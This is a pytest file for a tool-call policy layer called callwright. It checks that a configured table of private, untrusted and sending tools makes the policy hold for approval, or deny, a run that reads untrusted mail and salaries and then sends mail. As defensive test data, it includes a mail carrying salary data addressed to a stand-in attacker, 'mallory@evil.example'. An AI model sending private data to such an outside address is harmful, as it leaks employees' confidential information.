"""The table ``[run_labels]``: what it says is what the policy of the application does, and what it cannot mean is refused with its line."""

from pathlib import Path
from typing import Any

import pytest

from app.worlds import asked, code
from callwright.app.app_builder import build_app
from callwright.cli.config_problem_texts import describe_located_problem
from callwright.cli.principal_check import find_unknown_principals
from callwright.config.config_problem import ConfigError
from callwright.config.config_reader import LoadedConfig, parse_config
from callwright.config.tool_names import find_unknown_names, find_unmatched_patterns, list_expected_tools

pytestmark = pytest.mark.promise("T06")

MODULE = '''
from callwright import Callwright

app = Callwright()


@app.tool(effect="read", untrusted=True)
def read_mail() -> str:
    """Read the newest mail."""
    return "Invoice 17, 90 euros, due on Friday."


@app.tool(effect="read")
def read_salaries() -> dict[str, int]:
    """Read the salaries of all employees."""
    return {"Ann": 71_000}


@app.tool(effect="once", sinks=["to"])
def send_mail(to: str, text: str) -> str:
    """Send a mail."""
    return "sent"


@app.tool(effect="once")
def note(text: str) -> str:
    """Write a note that stays here."""
    return "noted"
'''
SERVER = '[servers.staff]\nurl = "http://127.0.0.1:1/mcp"\n'
LETTER = {"to": "mallory@evil.example", "text": "Ann 71000"}


def loaded(text: str, folder: Path = Path()) -> LoadedConfig:
    return parse_config(folder / "callwright.toml", text)


def decide(
    folder: Path, monkeypatch: pytest.MonkeyPatch, table: str, *calls: dict[str, Any]
) -> list[str | None]:
    """The codes of these calls, made in one run under a configuration with this table."""
    module = "office_of_labels"
    (folder / f"{module}.py").write_text(MODULE)
    monkeypatch.syspath_prepend(str(folder))
    text = f'[[rules]]\neffect = "allow"\n[python.office]\nmodule = "{module}"\n[run_labels]\n{table}\n'
    made = build_app(loaded(text, folder), {}, [module], store=str(folder / "ledger.db"))
    assert made.problems == ()
    with made.app as app:
        return [code(app.call(one, run="r")) for one in calls]


READS = (asked("read_mail"), asked("read_salaries"))


@pytest.mark.parametrize(
    ("table", "ends"),
    [
        ('private = ["read_salaries"]', [None, None, "approval_required", None]),
        ('private = ["read_sal*"]\nverdict = "deny"', [None, None, "permission_denied", None]),
        ('private = ["read_salaries"]\nuntrusted = []', [None, None, None, None]),
        ('private = ["read_salaries"]\nsends = ["note"]', [None, None, None, "approval_required"]),
    ],
)
def test_t06_the_table_decides_as_the_policy_function_of_its_name(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, table: str, ends: list[str | None]
) -> None:
    calls = (*READS, asked("send_mail", **LETTER), asked("note", text="x"))
    assert decide(tmp_path, monkeypatch, table, *calls) == ends


@pytest.mark.parametrize(
    ("table", "kind", "key", "line"),
    [
        ('verdict = "deny"', "missing_key", "run_labels.private", 3),
        ('private = []\nsends = ["*"]', "missing_key", "run_labels.private", 4),
        ('private = ["staff__read"]', "missing_key", "run_labels.sends", 3),
        ('private = ["staff__read"]\nverdict = "allow"', "not_accepted", "run_labels.verdict", 5),
        ('private = "staff__read"', "wrong_type", "run_labels.private", 4),
        ('private = ["staff__read"]\nkept_s = 0', "out_of_range", "run_labels.kept_s", 5),
        ('privat = ["staff__read"]', "unknown_key", "run_labels.privat", 4),
    ],
)
def test_what_the_table_cannot_mean_is_refused_with_its_line(
    table: str, kind: str, key: str, line: int
) -> None:
    with pytest.raises(ConfigError) as caught:
        loaded(f"{SERVER}[run_labels]\n{table}\n")
    assert (kind, key, line) in [(one.code, one.key, one.line) for one in caught.value.problems]


def test_a_sink_that_is_declared_for_a_tool_of_a_server_is_what_sends() -> None:
    text = f'{SERVER}[servers.staff.tools.mail]\nsinks = ["to"]\n[run_labels]\nprivate = ["staff__read"]\n'
    config = loaded(text)
    assert list_expected_tools(config.config, "staff") == ("read", "mail")


@pytest.mark.parametrize("key", ["private", "untrusted", "sends"])
def test_its_tools_have_to_be_tools_as_those_of_a_rule(key: str) -> None:
    names = {"private": ["staff__*"], "untrusted": ["staff__*"], "sends": ["staff__*"]} | {
        key: ["staf__mail", "staff__post"]
    }
    table = "\n".join(f"{name} = {value}" for name, value in names.items()).replace("'", '"')
    config = loaded(f"{SERVER}[run_labels]\n{table}\n")

    (trouble,) = find_unknown_names(config, [])

    assert (trouble.code, trouble.key) == ("unknown_tool", f"run_labels.{key}")
    assert "Did you mean staff__mail?" in describe_located_problem(config.path, trouble).en
    assert list_expected_tools(config.config, "staff") == ("post",)
    assert len(find_unmatched_patterns(config, ["other"])) == 2
    allowed = loaded(f"{SERVER}[run_labels]\n{table}\nallow_absent = true\n")
    assert find_unknown_names(allowed, []) == find_unmatched_patterns(allowed, []) == []


def test_who_may_approve_has_to_be_somebody() -> None:
    table = (
        '[run_labels]\nprivate = ["staff__*"]\nsends = ["staff__*"]\napprovers = ["user:lena", "role:lead"]\n'
    )
    (trouble,) = find_unknown_principals(loaded(SERVER + table))
    assert (trouble.code, trouble.key, trouble.values["name"]) == (
        "not_local",
        "run_labels.approvers",
        "role:lead",
    )
